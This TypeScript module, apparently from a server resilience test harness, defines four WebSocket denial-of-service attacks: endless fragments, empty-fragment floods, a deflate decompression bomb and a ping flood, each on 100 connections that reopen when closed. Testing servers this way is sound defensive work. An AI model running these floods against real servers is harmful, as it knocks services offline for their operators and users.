/** Endless streams of WebSocket frames, or streams whose peer has disappeared. */
import { constants, deflateRawSync } from 'node:zlib';
import type { Attack } from '../attack.ts';
import type { Target } from '../target.ts';

const CONNECTIONS = 100;

/** A frame of a client, with a mask of zeros. */
function frame(first: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(payload.length < 126 ? 6 : 8);
  head[0] = first;
  head[1] = 0x80 | (payload.length < 126 ? payload.length : 126);
  if (payload.length >= 126) head.writeUInt16BE(payload.length, 2);
  return Buffer.concat([head, payload]);
}

function upgrade(target: Target, path: string, token: string, extension: string): string {
  return (
    `GET ${path} HTTP/1.1\r\nHost: ${target.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
    `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n` +
    `Authorization: Bearer ${token}\r\n${extension}\r\n`
  );
}

/** Writes the same bytes on each connection repeatedly; closed connections are reopened. */
function flood(path: string, extension: string, first: Buffer, piece: Buffer) {
  return (target: Target): Promise<void> =>
    target.each(CONNECTIONS, (index) =>
      target.repeat(async () => {
        const socket = target.tcp();
        socket.resume();
        const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
        socket.write(upgrade(target, path, target.attacker(index).token, extension));
        await target.wait(50);
        socket.write(first);
        for (let sent = 0; sent < 2000 && !target.isOver && socket.writable; sent += 1) {
          if (!socket.write(piece)) await Promise.race([closed, target.wait(20)]);
          if (sent % 50 === 49) await target.wait(1);
        }
        socket.destroy();
        await target.wait(20);
      }),
    );
}

const BOMB = deflateRawSync(Buffer.alloc(8 * 1_048_576), { finishFlush: constants.Z_SYNC_FLUSH });
const DEFLATE = 'Sec-WebSocket-Extensions: permessage-deflate\r\n';
const NOTHING = Buffer.alloc(0);
const THREAT = 'Endless streams of frames';

export const STREAM_ATTACKS: readonly Attack[] = [
  {
    name: 'endless-fragments',
    about: 'Fragments of one message without end, on 100 connections',
    threat: THREAT,
    run: flood('/ws', '', frame(0x1, Buffer.from('{')), frame(0x0, Buffer.alloc(1000, ' '))),
  },
  {
    name: 'empty-fragments',
    about: 'Empty fragments without end, on 100 connections',
    threat: THREAT,
    run: flood(
      '/ws/chat',
      '',
      frame(0x1, NOTHING),
      Buffer.concat(Array.from({ length: 500 }, () => frame(0x0, NOTHING))),
    ),
  },
  {
    name: 'inflating-fragments',
    about: 'Fragments that inflate to far more than a message may have, and never end',
    threat: THREAT,
    run: flood(
      '/ws',
      DEFLATE,
      frame(0x41, BOMB.subarray(0, 4000)),
      frame(0x0, BOMB.subarray(4000, 8000)),
    ),
  },
  {
    name: 'ping-flood',
    about: 'Pings as fast as possible, on 100 connections',
    threat: THREAT,
    run: flood(
      '/ws',
      '',
      NOTHING,
      Buffer.concat(Array.from({ length: 100 }, () => frame(0x89, Buffer.alloc(125)))),
    ),
  },
];
